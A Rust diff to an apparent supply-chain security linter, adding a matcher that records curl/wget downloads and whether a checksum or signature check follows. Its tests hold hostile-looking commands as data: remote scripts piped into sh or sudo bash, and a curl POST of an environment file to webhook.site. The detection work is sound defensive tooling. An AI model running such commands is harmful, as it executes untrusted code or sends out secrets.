@@ -358,6 +358,110 @@ pub fn pipe_to_shell(script: &str) -> Vec<PipeToShell> {
     found
 }
 
+/// Programs that check a download's checksum or signature (the `dockerfile-download-no-checksum`
+/// rule's list, and [`downloads`]'s).
+pub const VERIFIERS: &[&str] = &[
+    "sha256sum",
+    "sha512sum",
+    "sha384sum",
+    "sha1sum",
+    "shasum",
+    "gpg",
+    "gpgv",
+    "cosign",
+    "minisign",
+    "signify",
+    "b2sum",
+    "md5sum",
+    "rpm",
+    "openssl",
+    "slsa-verifier",
+];
+
+/// A URL fetched by `curl` or `wget` in a script and kept (not run as code: [`pipe_to_shell`]
+/// covers those).
+#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
+pub struct Download {
+    /// `curl` or `wget`.
+    pub downloader: String,
+    /// The `http(s)://` or `ftp://` URL as written (quotes removed).
+    pub url: String,
+    /// Whether a checksum or signature check ([`VERIFIERS`]) runs after it in the same script.
+    /// Only what runs after counts: a `gpg --verify` of one file earlier in a `RUN` does not
+    /// verify the downloads that follow it.
+    pub verified: bool,
+}
+
+/// Whether `cmd` sends data rather than fetching a file: `curl -d/--data*/-F/--form/-T/
+/// --upload-file/--json` or `-X POST|PUT|PATCH|DELETE`, `wget --post-data/--post-file/
+/// --method=…`.
+fn uploads(cmd: &ShellCommand) -> bool {
+    cmd.args.iter().enumerate().any(|(i, a)| {
+        let a = a.as_str();
+        matches!(
+            a,
+            "-d" | "-F" | "-T" | "--form" | "--upload-file" | "--json"
+        ) || a.starts_with("--data")
+            || a.starts_with("--post-")
+            || a.starts_with("--method")
+            || (a == "-X" || a == "--request")
+                && cmd.args.get(i + 1).is_some_and(|m| {
+                    matches!(
+                        m.to_ascii_uppercase().as_str(),
+                        "POST" | "PUT" | "PATCH" | "DELETE"
+                    )
+                })
+    })
+}
+
+/// Whether `script` runs a checksum or signature check ([`VERIFIERS`]) anywhere.
+pub fn verifies(script: &str) -> bool {
+    split(script)
+        .iter()
+        .flatten()
+        .any(|c| VERIFIERS.contains(&c.program.as_str()))
+}
+
+/// The `curl`/`wget` downloads of URLs in `script`, in order: the one matcher `vouch pin`
+/// records downloads with. Downloads piped or substituted into a shell are left out (the
+/// pipe-to-shell rules report those, once).
+pub fn downloads(script: &str) -> Vec<Download> {
+    let commands: Vec<(usize, ShellCommand)> = split(script)
+        .into_iter()
+        .enumerate()
+        .flat_map(|(i, p)| {
+            let piped = p
+                .iter()
+                .position(downloads_to_stdout)
+                .is_some_and(|d| p[d + 1..].iter().any(|c| is_interpreter(&c.program)));
+            p.into_iter().filter(move |_| !piped).map(move |c| (i, c))
+        })
+        .collect();
+    let mut found = Vec::new();
+    for (n, (_, cmd)) in commands.iter().enumerate() {
+        if !DOWNLOADERS.contains(&cmd.program.as_str()) || uploads(cmd) {
+            continue;
+        }
+        let verified = commands[n + 1..]
+            .iter()
+            .any(|(_, c)| VERIFIERS.contains(&c.program.as_str()));
+        for a in &cmd.args {
+            let lower = a.to_ascii_lowercase();
+            if ["https://", "http://", "ftp://"]
+                .iter()
+                .any(|p| lower.starts_with(p))
+            {
+                found.push(Download {
+                    downloader: cmd.program.clone(),
+                    url: a.clone(),
+                    verified,
+                });
+            }
+        }
+    }
+    found
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -458,5 +562,42 @@ mod tests {
         assert!(forms("curl -s https://api/x | jq .tag_name").is_empty());
         assert!(forms(r#"echo "$(curl -s https://x)""#).is_empty());
         assert!(forms("sh -c 'curl -s https://x'").is_empty());
+    }
+
+    #[test]
+    fn downloads_and_whether_a_check_follows() {
+        let d = downloads(
+            "curl -fsSLo /tmp/t.tgz \"https://example.com/t.tgz\" && tar -xzf /tmp/t.tgz; wget -q https://example.com/b.bin",
+        );
+        let got: Vec<(&str, &str, bool)> = d
+            .iter()
+            .map(|d| (d.downloader.as_str(), d.url.as_str(), d.verified))
+            .collect();
+        assert_eq!(
+            got,
+            [
+                ("curl", "https://example.com/t.tgz", false),
+                ("wget", "https://example.com/b.bin", false)
+            ]
+        );
+        let d = downloads(
+            "curl -fsSLo t.tgz https://example.com/t.tgz && echo \"abc  t.tgz\" | sha256sum -c -",
+        );
+        assert!(d[0].verified);
+        // A check before the download does not verify it.
+        let d = downloads("sha256sum -c sums && curl -o t https://example.com/t");
+        assert!(!d[0].verified);
+        // Piped into a shell: the pipe-to-shell rules report it, not this matcher.
+        assert!(downloads("curl -fsSL https://x/i.sh | sh").is_empty());
+        assert!(downloads("curl -fsSL https://x/i.sh | sudo -E bash -").is_empty());
+        // Uploads are not downloads (checkov's tests/gitlab_ci curl fixture posts the
+        // environment to a webhook).
+        assert!(
+            downloads("curl -H \"Content-Type: application/json\" -X POST --data \"@env.json\" https://webhook.site/x")
+                .is_empty()
+        );
+        assert!(downloads("curl -d @f https://x/y").is_empty());
+        assert!(verifies("echo x | sha256sum -c -"));
+        assert!(!verifies("tar -xzf t.tgz"));
     }
 }
